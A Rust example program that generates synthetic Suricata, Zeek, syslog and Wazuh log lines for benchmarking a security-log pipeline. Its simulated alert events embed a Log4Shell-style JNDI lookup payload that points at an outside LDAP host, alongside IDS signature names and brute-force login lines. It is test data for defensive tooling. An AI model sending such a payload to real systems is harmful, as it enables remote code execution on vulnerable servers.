//! Generates realistic sensor output for `scripts/bench`: Suricata EVE with
//! the mix a real sensor writes (mostly flow and dns, some http/tls/fileinfo,
//! a few percent alerts with ATT&CK metadata), Zeek conn and dns logs (TSV or
//! JSON), syslog auth lines and Wazuh alerts. Deterministic for a given seed.
//!
//!     cargo run --release --example gen-events -- eve 1024 > eve.json   # ~1 GiB

use std::io::{self, BufWriter, Write};

/// xorshift64*: small, fast, reproducible.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, xs: &[&'a str]) -> &'a str {
        xs[self.below(xs.len() as u64) as usize]
    }
}

struct Ctx {
    rng: Rng,
    /// Seconds since the epoch of the current event; moves forward.
    t: u64,
    us: u32,
}

impl Ctx {
    fn tick(&mut self) {
        let step = self.rng.below(20_000) as u32;
        self.us += step;
        self.t += (self.us / 1_000_000) as u64;
        self.us %= 1_000_000;
    }
    fn internal_ip(&mut self) -> String {
        format!(
            "10.{}.{}.{}",
            self.rng.below(4),
            self.rng.below(256),
            1 + self.rng.below(254)
        )
    }
    fn external_ip(&mut self) -> String {
        let firsts = [23u64, 34, 52, 104, 142, 151, 172, 185, 198, 203];
        format!(
            "{}.{}.{}.{}",
            firsts[self.rng.below(firsts.len() as u64) as usize],
            self.rng.below(256),
            self.rng.below(256),
            1 + self.rng.below(254)
        )
    }
    fn eve_ts(&mut self) -> String {
        let (y, mo, d, h, mi, s) = civil(self.t);
        if self.rng.below(10) == 0 {
            // Some sensors write local time with an offset.
            let (y, mo, d, h, mi, s) = civil(self.t - 4 * 3600);
            format!(
                "{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{:06}-0400",
                self.us
            )
        } else {
            format!(
                "{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{:06}+0000",
                self.us
            )
        }
    }
    fn iso(&self, t: u64) -> String {
        let (y, mo, d, h, mi, s) = civil(t);
        format!(
            "{y:04}-{mo:02}-{d:02}T{h:02}:{mi:02}:{s:02}.{:06}+0000",
            self.us
        )
    }
}

fn civil(t: u64) -> (i64, u32, u32, u64, u64, u64) {
    let days = (t / 86_400) as i64;
    let sod = t % 86_400;
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
    let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
    let y = yoe + era * 400 + if m <= 2 { 1 } else { 0 };
    (y, m, d, sod / 3600, sod / 60 % 60, sod % 60)
}

const DOMAINS: &[&str] = &[
    "www.google.com",
    "api.github.com",
    "login.microsoftonline.com",
    "s3.amazonaws.com",
    "cdn.jsdelivr.net",
    "updates.example.org",
    "mail.corp.example",
    "time.windows.com",
    "x7fq2k.duckdns.org",
    "ocsp.digicert.com",
    "slack.com",
    "zoom.us",
];
const UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "curl/7.88.1",
    "Microsoft-CryptoAPI/10.0",
    "python-requests/2.31.0",
];
const ALERTS: &[(&str, &str, u32, &str, &str, &str, &str)] = &[
    (
        "ET SCAN Nmap Scripting Engine User-Agent Detected (Nmap Scripting Engine)",
        "Web Application Attack",
        2009358,
        "TA0043",
        "Reconnaissance",
        "T1595",
        "Active_Scanning",
    ),
    (
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        "Attempted Administrator Privilege Gain",
        2034647,
        "TA0001",
        "Initial_Access",
        "T1190",
        "Exploit_Public_Facing_Application",
    ),
    (
        "ET POLICY curl User-Agent Outbound",
        "Attempted Information Leak",
        2013028,
        "TA0011",
        "Command_And_Control",
        "T1071",
        "Application_Layer_Protocol",
    ),
    (
        "ET MALWARE Cobalt Strike Beacon Observed",
        "A Network Trojan was detected",
        2027867,
        "TA0011",
        "Command_And_Control",
        "T1071",
        "Application_Layer_Protocol",
    ),
    (
        "ET INFO Observed DNS Query to .duckdns .org Domain",
        "Potentially Bad Traffic",
        2028675,
        "TA0011",
        "Command_And_Control",
        "T1568",
        "Dynamic_Resolution",
    ),
];

fn eve_line(c: &mut Ctx, out: &mut String) {
    c.tick();
    let ts = c.eve_ts();
    let flow_id = c.rng.next() >> 13;
    let src = c.internal_ip();
    let dst = c.external_ip();
    let sport = 1024 + c.rng.below(64_000);
    let iface = "eth0";
    let host = "sensor-01";
    let roll = c.rng.below(1000);
    out.clear();
    use std::fmt::Write as _;
    if roll < 420 {
        let proto = if c.rng.below(4) == 0 { "UDP" } else { "TCP" };
        let (dport, app) = match c.rng.below(5) {
            0 => (443, "tls"),
            1 => (80, "http"),
            2 => (53, "dns"),
            3 => (22, "ssh"),
            _ => (8443 + c.rng.below(100), "failed"),
        };
        let pts = c.rng.below(200) + 1;
        let ptc = c.rng.below(200) + 1;
        let back = c.rng.below(300);
        let start = c.iso(c.t.saturating_sub(back));
        let end = c.iso(c.t);
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"flow","src_ip":"{src}","src_port":{sport},"dest_ip":"{dst}","dest_port":{dport},"proto":"{proto}","app_proto":"{app}","flow":{{"pkts_toserver":{pts},"pkts_toclient":{ptc},"bytes_toserver":{},"bytes_toclient":{},"start":"{start}","end":"{end}","age":{},"state":"closed","reason":"timeout","alerted":false}},"tcp":{{"tcp_flags":"1b","tcp_flags_ts":"1b","tcp_flags_tc":"1b","syn":true,"fin":true,"psh":true,"ack":true,"state":"closed"}},"host":"{host}"}}"#,
            pts * 80 + c.rng.below(5000),
            ptc * 700 + c.rng.below(90000),
            c.rng.below(300)
        );
    } else if roll < 720 {
        let d = c.rng.pick(DOMAINS);
        let resolver = "10.0.0.53";
        if c.rng.below(2) == 0 {
            let _ = write!(
                out,
                r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"dns","src_ip":"{src}","src_port":{sport},"dest_ip":"{resolver}","dest_port":53,"proto":"UDP","dns":{{"type":"query","id":{},"rrname":"{d}","rrtype":"A","tx_id":0,"opcode":0}},"host":"{host}"}}"#,
                c.rng.below(65535)
            );
        } else {
            let a1 = c.external_ip();
            let a2 = c.external_ip();
            let _ = write!(
                out,
                r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"dns","src_ip":"{resolver}","src_port":53,"dest_ip":"{src}","dest_port":{sport},"proto":"UDP","dns":{{"version":2,"type":"answer","id":{},"flags":"8180","qr":true,"rd":true,"ra":true,"opcode":0,"rrname":"{d}","rrtype":"A","rcode":"NOERROR","answers":[{{"rrname":"{d}","rrtype":"A","ttl":{},"rdata":"{a1}"}},{{"rrname":"{d}","rrtype":"A","ttl":{},"rdata":"{a2}"}}],"grouped":{{"A":["{a1}","{a2}"]}}}},"host":"{host}"}}"#,
                c.rng.below(65535),
                c.rng.below(3600),
                c.rng.below(3600)
            );
        }
    } else if roll < 800 {
        let d = c.rng.pick(DOMAINS);
        let ua = c.rng.pick(UAS);
        let status = [200, 200, 200, 301, 304, 404, 500][c.rng.below(7) as usize];
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"http","src_ip":"{src}","src_port":{sport},"dest_ip":"{dst}","dest_port":80,"proto":"TCP","tx_id":{},"http":{{"hostname":"{d}","url":"/api/v1/items?id={}&page={}","http_user_agent":"{ua}","http_content_type":"application/json","http_method":"GET","protocol":"HTTP/1.1","status":{status},"length":{}}},"host":"{host}"}}"#,
            c.rng.below(8),
            c.rng.below(100000),
            c.rng.below(50),
            c.rng.below(90000)
        );
    } else if roll < 880 {
        let d = c.rng.pick(DOMAINS);
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"tls","src_ip":"{src}","src_port":{sport},"dest_ip":"{dst}","dest_port":443,"proto":"TCP","tls":{{"subject":"CN={d}","issuerdn":"C=US, O=Let's Encrypt, CN=R3","serial":"04:A1:{:02X}:9C","fingerprint":"b5:0b:{:02x}:4d:f0:8e:1c:9a:33:7e:60:5f:2b:86:71:aa:cd:0e:43:2c","sni":"{d}","version":"TLS 1.3","notbefore":"2023-08-01T00:00:00","notafter":"2023-10-30T23:59:59","ja3":{{"hash":"{:032x}","string":"771,4865-4866-4867,0-23-65281-10-11,29-23-24,0"}},"ja3s":{{"hash":"{:032x}","string":"771,4865,43-51"}}}},"host":"{host}"}}"#,
            c.rng.below(256),
            c.rng.below(256),
            c.rng.next() as u128 * 7,
            c.rng.next() as u128 * 13
        );
    } else if roll < 930 {
        let d = c.rng.pick(DOMAINS);
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"fileinfo","src_ip":"{dst}","src_port":80,"dest_ip":"{src}","dest_port":{sport},"proto":"TCP","http":{{"hostname":"{d}","url":"/downloads/setup-{}.exe","http_user_agent":"Mozilla/5.0","http_content_type":"application/octet-stream","http_method":"GET","protocol":"HTTP/1.1","status":200,"length":{}}},"app_proto":"http","fileinfo":{{"filename":"/downloads/setup-{}.exe","magic":"PE32 executable (GUI) Intel 80386, for MS Windows","gaps":false,"state":"CLOSED","md5":"{:032x}","sha256":"{:064x}","stored":false,"size":{},"tx_id":0}},"host":"{host}"}}"#,
            c.rng.below(100),
            c.rng.below(9_000_000),
            c.rng.below(100),
            c.rng.next() as u128 * 3,
            c.rng.next() as u128 * 5,
            c.rng.below(9_000_000)
        );
    } else if roll < 960 {
        let (sig, cat, sid, tid, tname, teid, tename) =
            ALERTS[c.rng.below(ALERTS.len() as u64) as usize];
        let sev = 1 + c.rng.below(3);
        let now = c.iso(c.t);
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"alert","src_ip":"{dst}","src_port":{sport},"dest_ip":"{src}","dest_port":80,"proto":"TCP","community_id":"1:{:027x}=","alert":{{"action":"allowed","gid":1,"signature_id":{sid},"rev":{},"signature":"{sig}","category":"{cat}","severity":{sev},"metadata":{{"affected_product":["Any"],"attack_target":["Server"],"created_at":["2021_12_10"],"deployment":["Perimeter"],"signature_severity":["Major"],"updated_at":["2023_06_20"],"mitre_tactic_id":["{tid}"],"mitre_tactic_name":["{tname}"],"mitre_technique_id":["{teid}"],"mitre_technique_name":["{tename}"]}}}},"http":{{"hostname":"{src}","url":"/?x=${{jndi:ldap://{dst}/a}}","http_user_agent":"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)","http_method":"GET","protocol":"HTTP/1.1","length":0}},"app_proto":"http","flow":{{"pkts_toserver":3,"pkts_toclient":1,"bytes_toserver":420,"bytes_toclient":66,"start":"{now}"}},"host":"{host}"}}"#,
            c.rng.next() as u128,
            2 + c.rng.below(10)
        );
    } else if roll < 985 {
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","flow_id":{flow_id},"in_iface":"{iface}","event_type":"ssh","src_ip":"{dst}","src_port":{sport},"dest_ip":"{src}","dest_port":22,"proto":"TCP","ssh":{{"client":{{"proto_version":"2.0","software_version":"libssh2_1.10.0"}},"server":{{"proto_version":"2.0","software_version":"OpenSSH_9.2p1"}}}},"host":"{host}"}}"#
        );
    } else if roll < 998 {
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","in_iface":"{iface}","event_type":"anomaly","src_ip":"{dst}","src_port":{sport},"dest_ip":"{src}","dest_port":443,"proto":"TCP","anomaly":{{"type":"stream","event":"stream.pkt_invalid_ack","layer":"proto_detect"}},"host":"{host}"}}"#
        );
    } else {
        let _ = write!(
            out,
            r#"{{"timestamp":"{ts}","event_type":"stats","stats":{{"uptime":{},"capture":{{"kernel_packets":{},"kernel_drops":{}}},"decoder":{{"pkts":{},"bytes":{},"ipv4":{},"ipv6":{},"tcp":{},"udp":{}}},"flow":{{"memuse":{}}}}},"host":"{host}"}}"#,
            c.rng.below(90000),
            c.rng.next() >> 30,
            c.rng.below(1000),
            c.rng.next() >> 30,
            c.rng.next() >> 24,
            c.rng.next() >> 31,
            c.rng.next() >> 40,
            c.rng.next() >> 31,
            c.rng.next() >> 33,
            c.rng.below(90_000_000)
        );
    }
}

fn zeek_tsv(c: &mut Ctx, w: &mut impl Write, mb: u64, log: &str) -> io::Result<()> {
    let (fields, types) = if log == "conn" {
        (
            "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\tlocal_orig\tlocal_resp\tmissed_bytes\thistory\torig_pkts\torig_ip_bytes\tresp_pkts\tresp_ip_bytes\ttunnel_parents",
            "time\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tbool\tbool\tcount\tstring\tcount\tcount\tcount\tcount\tset[string]",
        )
    } else {
        (
            "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\trtt\tquery\tqclass\tqclass_name\tqtype\tqtype_name\trcode\trcode_name\tAA\tTC\tRD\tRA\tZ\tanswers\tTTLs\trejected",
            "time\tstring\taddr\tport\taddr\tport\tenum\tcount\tinterval\tstring\tcount\tstring\tcount\tstring\tcount\tstring\tbool\tbool\tbool\tbool\tcount\tvector[string]\tvector[interval]\tbool",
        )
    };
    writeln!(
        w,
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t{log}\n#open\t2026-12-01-00-00-00\n#fields\t{fields}\n#types\t{types}"
    )?;
    let mut written = 0u64;
    let states = ["SF", "SF", "SF", "S0", "REJ", "RSTO", "OTH", "SH"];
    while written < mb << 20 {
        c.tick();
        let uid = format!("C{:017x}", c.rng.next() >> 4);
        let src = c.internal_ip();
        let dst = c.external_ip();
        let sport = 1024 + c.rng.below(64_000);
        let (t, us) = (c.t, c.us);
        let line = if log == "conn" {
            let st = states[c.rng.below(states.len() as u64) as usize];
            format!(
                "{}.{:06}\t{uid}\t{src}\t{sport}\t{dst}\t{}\ttcp\t{}\t{}.{:06}\t{}\t{}\t{st}\tT\tF\t0\tShADadFf\t{}\t{}\t{}\t{}\t(empty)",
                t,
                us,
                [443, 80, 22, 3389][c.rng.below(4) as usize],
                c.rng.pick(&["ssl", "http", "-", "ssh"]),
                c.rng.below(100),
                c.rng.below(999999),
                c.rng.below(5000),
                c.rng.below(90000),
                c.rng.below(50),
                c.rng.below(9000),
                c.rng.below(80),
                c.rng.below(99000)
            )
        } else {
            let d = c.rng.pick(DOMAINS);
            let (a1, a2) = (c.external_ip(), c.external_ip());
            format!(
                "{}.{:06}\t{uid}\t{src}\t{sport}\t10.0.0.53\t53\tudp\t{}\t0.{:06}\t{d}\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t{},{}\t{}.000000,{}.000000\tF",
                t,
                us,
                c.rng.below(65535),
                c.rng.below(99999),
                a1,
                a2,
                c.rng.below(3600),
                c.rng.below(3600)
            )
        };
        written += line.len() as u64 + 1;
        writeln!(w, "{line}")?;
    }
    writeln!(w, "#close\t2026-12-01-01-00-00")
}

fn syslog(c: &mut Ctx, w: &mut impl Write, mb: u64) -> io::Result<()> {
    let users = ["root", "admin", "ubuntu", "oracle", "test", "alice", "bob"];
    let mut written = 0u64;
    let months = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    while written < mb << 20 {
        c.tick();
        let (_, mo, d, h, mi, s) = civil(c.t);
        let stamp = format!("{} {d:2} {h:02}:{mi:02}:{s:02}", months[(mo - 1) as usize]);
        let pid = 1000 + c.rng.below(60000);
        let user = users[c.rng.below(users.len() as u64) as usize];
        let ip = c.external_ip();
        let port = 1024 + c.rng.below(64000);
        let msg = match c.rng.below(8) {
            0..=2 => format!("sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"),
            3 => format!("sshd[{pid}]: Invalid user {user}x from {ip} port {port}"),
            4 => format!(
                "sshd[{pid}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:AbCdEf0123456789"
            ),
            5 => format!(
                "sudo:  {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
            ),
            6 => format!(
                "sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"
            ),
            _ => format!(
                "CRON[{pid}]: pam_unix(cron:session): session opened for user {user}(uid=0) by (uid=0)"
            ),
        };
        let line = format!("{stamp} web-01 {msg}");
        written += line.len() as u64 + 1;
        writeln!(w, "{line}")?;
    }
    Ok(())
}

fn wazuh(c: &mut Ctx, w: &mut impl Write, mb: u64) -> io::Result<()> {
    let mut written = 0u64;
    while written < mb << 20 {
        c.tick();
        let ip = c.external_ip();
        let user = ["root", "admin", "oracle"][c.rng.below(3) as usize];
        let ts = c.eve_ts();
        let pid = 1000 + c.rng.below(60000);
        let port = 1024 + c.rng.below(64000);
        let line = format!(
            r#"{{"timestamp":"{ts}","rule":{{"level":5,"description":"sshd: authentication failed.","id":"5760","mitre":{{"id":["T1110.001","T1021.004"],"tactic":["Credential Access","Lateral Movement"],"technique":["Password Guessing","SSH"]}},"firedtimes":{},"mail":false,"groups":["syslog","sshd","authentication_failed"],"gdpr":["IV_35.7.d","IV_32.2"],"nist_800_53":["AU.14","AC.7"],"pci_dss":["10.2.4","10.2.5"]}},"agent":{{"id":"003","name":"web-01","ip":"10.0.1.15"}},"manager":{{"name":"wazuh-manager"}},"id":"{}.{}","full_log":"Dec  1 10:00:00 web-01 sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2","predecoder":{{"program_name":"sshd","timestamp":"Dec  1 10:00:00","hostname":"web-01"}},"decoder":{{"parent":"sshd","name":"sshd"}},"data":{{"srcip":"{ip}","srcport":"{port}","dstuser":"{user}"}},"location":"/var/log/auth.log"}}"#,
            c.rng.below(5000),
            c.t,
            c.rng.below(9_999_999)
        );
        written += line.len() as u64 + 1;
        writeln!(w, "{line}")?;
    }
    Ok(())
}

fn main() -> io::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    let kind = args.get(1).map(String::as_str).unwrap_or("eve");
    let mb: u64 = args.get(2).and_then(|s| s.parse().ok()).unwrap_or(64);
    let seed: u64 = args.get(3).and_then(|s| s.parse().ok()).unwrap_or(7);
    let mut c = Ctx {
        rng: Rng(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1),
        t: 1_764_547_200,
        us: 0,
    };
    let stdout = io::stdout();
    let mut w = BufWriter::with_capacity(1 << 20, stdout.lock());
    match kind {
        "eve" => {
            let mut line = String::with_capacity(2048);
            let mut written = 0u64;
            while written < mb << 20 {
                eve_line(&mut c, &mut line);
                written += line.len() as u64 + 1;
                w.write_all(line.as_bytes())?;
                w.write_all(b"\n")?;
            }
        }
        "zeek-conn" => zeek_tsv(&mut c, &mut w, mb, "conn")?,
        "zeek-dns" => zeek_tsv(&mut c, &mut w, mb, "dns")?,
        "syslog" => syslog(&mut c, &mut w, mb)?,
        "wazuh" => wazuh(&mut c, &mut w, mb)?,
        other => {
            eprintln!("gen-events: unknown kind {other} (eve, zeek-conn, zeek-dns, syslog, wazuh)");
            std::process::exit(2);
        }
    }
    w.flush()
}
